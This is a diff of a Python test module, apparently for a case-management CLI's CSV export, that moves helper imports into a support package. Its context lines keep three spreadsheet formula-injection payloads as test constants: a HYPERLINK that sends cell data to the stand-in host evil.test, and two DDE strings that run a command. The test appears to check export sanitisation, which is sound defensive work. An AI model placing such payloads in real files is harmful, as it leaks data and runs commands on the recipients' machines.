@@ -4,9 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
-import subprocess
-import sys
 from datetime import date, datetime, timezone
 from pathlib import Path
 
@@ -15,20 +12,14 @@ from sqlalchemy import select
 
 from store.db import Database
 from store.models import Case
-from tests.formbuilder import build_form
-from tests.mailbuilder import make_mail
+from tests.support.cli_process import cli
+from tests.support.formbuilder import build_form
+from tests.support.mailbuilder import make_mail
 
 WHEN = datetime(2025, 3, 10, 9, 30, tzinfo=timezone.utc)
 HOSTILE_EVENT = '=HYPERLINK("http://evil.test/?x="&A1,"klicka")'
 HOSTILE_UNIT = "+cmd|' /C calc'!A0"
 HOSTILE_DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0"
-
-
-def cli(*args: str, db_url: str) -> subprocess.CompletedProcess[str]:
-    env = {**os.environ, "BUSAVVIK_DATABASE_URL": db_url}
-    env.pop("BUSAVVIK_CONFIG", None)
-    return subprocess.run([sys.executable, "-m", "busavvik.cli", *args], capture_output=True, text=True,
-                          env=env, timeout=180)
 
 
 def _hostile_deviation(folder: Path) -> None:
